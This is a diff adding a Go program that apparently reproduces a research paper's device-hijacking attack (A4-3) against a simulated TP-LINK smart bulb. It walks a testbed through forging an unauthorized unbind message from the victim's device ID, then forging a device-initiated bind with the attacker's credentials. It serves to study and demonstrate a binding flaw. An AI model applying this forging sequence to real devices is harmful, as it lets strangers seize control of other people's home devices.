@@ -1,0 +1,82 @@
+// Hijack reproduces the Section VI-B device-hijacking narrative against
+// the TP-LINK profile (device #8): the A4-3 chain. The attacker, knowing
+// only the victim's device ID (a MAC address with a public vendor prefix),
+// first forges the unauthorized Unbind:DevId message to disconnect the
+// victim, then forges the device-initiated binding message with the
+// attacker's own account credentials — and ends up in absolute control of
+// the victim's bulb, from a different network, with no local access.
+package main
+
+import (
+	"fmt"
+	"os"
+
+	iotbind "github.com/iotbind/iotbind"
+)
+
+func main() {
+	if err := run(); err != nil {
+		fmt.Fprintln(os.Stderr, "hijack:", err)
+		os.Exit(1)
+	}
+}
+
+func run() error {
+	profile, ok := iotbind.ByVendor("TP-LINK")
+	if !ok {
+		return fmt.Errorf("no TP-LINK profile")
+	}
+	fmt.Printf("Target design: %s — auth=%v, binding=%v, unbind=%s\n\n",
+		profile.Design.Name, profile.Design.DeviceAuth, profile.Design.Binding,
+		profile.Design.UnbindNotation())
+
+	tb, err := iotbind.NewTestbed(profile.Design)
+	if err != nil {
+		return err
+	}
+	deviceID := tb.DeviceID()
+	fmt.Printf("Victim's device ID (leaked via its label): %s\n", deviceID)
+
+	// The victim sets the bulb up normally and controls it.
+	if err := tb.SetupVictim(); err != nil {
+		return err
+	}
+	st, err := tb.Shadow()
+	if err != nil {
+		return err
+	}
+	fmt.Printf("After victim setup: shadow=%v bound=%s\n", st.State, st.BoundUser)
+	fmt.Printf("Victim has control: %v\n\n", tb.VictimHasControl())
+
+	atk := tb.Attacker()
+
+	// Step ①: forge Unbind:DevId — no authorization required (A3-1).
+	fmt.Println("Step ①: attacker forges Unbind:DevId ...")
+	if err := atk.ForgeUnbind(deviceID, iotbind.UnbindDevIDAlone); err != nil {
+		return fmt.Errorf("unbind forgery: %w", err)
+	}
+	st, err = tb.Shadow()
+	if err != nil {
+		return err
+	}
+	fmt.Printf("  shadow=%v bound=%q — the victim is disconnected\n\n", st.State, st.BoundUser)
+
+	// Step ②: forge the device-initiated binding message with the
+	// attacker's own account (A4-2 into the online state).
+	fmt.Println("Step ②: attacker forges the device-initiated Bind with their own credentials ...")
+	if _, err := atk.ForgeBind(deviceID); err != nil {
+		return fmt.Errorf("bind forgery: %w", err)
+	}
+	st, err = tb.Shadow()
+	if err != nil {
+		return err
+	}
+	fmt.Printf("  shadow=%v bound=%s\n\n", st.State, st.BoundUser)
+
+	// The real device now obeys the attacker.
+	fmt.Printf("Attacker has control of the victim's real device: %v\n", tb.AttackerHasControl())
+	fmt.Printf("Victim has control: %v\n", tb.VictimHasControl())
+	fmt.Printf("\nCommands the victim's physical device executed: %v\n", tb.VictimDevice().Executed())
+	fmt.Println("\nThis is attack A4-3 of Table II; Table III reports it against device #8.")
+	return nil
+}
